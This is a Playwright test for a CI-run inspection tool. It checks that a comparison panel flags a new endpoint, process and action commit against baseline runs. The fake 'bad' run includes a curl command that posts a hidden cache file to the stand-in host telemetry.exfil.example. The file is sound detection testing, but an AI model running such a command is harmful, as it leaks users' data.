/**
 * A baseline opened beside the case (`runlens serve BAD --baseline GOOD1 --baseline GOOD2`): the Compare panel
 * lists the new endpoint, the new process and the changed action commit; clicking the new endpoint selects its
 * call; the new endpoint is among the findings (findings.list), like every other finding.
 */
import { expect, test } from '@playwright/test';
import type { Result } from '../../shared/api';
import { runCases, type RunCase } from '../support/run-cases';
import { apiFromPage, openApp, shot, watchPage } from './support/app';
import { startServeProcess } from './support/serve-process';

test.use({ viewport: { width: 1280, height: 720 } });

const CURL = { exe: '/usr/bin/curl', args: ['curl', '-sS', '-X', 'POST', '--data-binary', '@/tmp/.npm-cache-8f3a.json', 'https://telemetry.exfil.example/v2/collect'] };

test('Compare panel: new endpoint, new process, changed commit; the endpoint is a finding', async ({ page }) => {
  const w = watchPage(page);
  const { runs } = await runCases({
    good1: { seed: 11 },
    good2: { seed: 12 },
    bad: { seed: 13, extraEndpoints: ['telemetry.exfil.example:443'], extraProcess: CURL, checkoutSha: 'b4ffe1c0e7d1a3f2c9e8d7b6a5f4e3d2c1b0a9f8' },
  });
  const [good1, good2, bad] = runs as [RunCase, RunCase, RunCase];
  const serve = await startServeProcess(bad.case, {}, 120_000, ['--baseline', good1.case, '--baseline', good2.case]);
  try {
    await openApp(page, serve.url);
    const panel = page.getByRole('region', { name: 'Compare with baseline' });
    await expect(panel).toBeVisible();
    await expect(panel).toContainText('3 differences vs 2 baseline runs');
    const endpoints = panel.getByRole('region', { name: 'Endpoints' });
    await expect(endpoints.locator('.cmp-item')).toHaveCount(1);
    await expect(endpoints).toContainText('telemetry.exfil.example:443');
    await expect(panel.getByRole('region', { name: 'Processes' })).toContainText('/usr/bin/curl');
    await expect(panel.getByRole('region', { name: 'Actions' })).toContainText('actions/checkout');
    await expect(panel.getByRole('region', { name: 'Steps' })).toContainText('no change');
    await endpoints.getByRole('button', { name: 'telemetry.exfil.example:443' }).click();
    await expect(page).toHaveURL(/#call=\d+/);
    const f = await apiFromPage<Result<'findings.list'>>(page, 'findings.list');
    expect(f.findings.filter((x) => x.kind === 'new-endpoint-vs-baseline').map((x) => x.endpoint)).toEqual(['telemetry.exfil.example:443']);
    await shot(page, 'compare-panel');
    // Shown like every other finding: in the Findings pane too.
    await page.getByRole('tab', { name: 'Findings' }).click();
    const list = page.getByRole('list', { name: 'Findings, most severe first' });
    await expect(list).toContainText('telemetry.exfil.example:443');
    await expect(list).toContainText(/new endpoint against the baseline/i);
    await shot(page, 'compare-findings-pane');
    w.check();
  } finally {
    await serve.stop();
  }
});
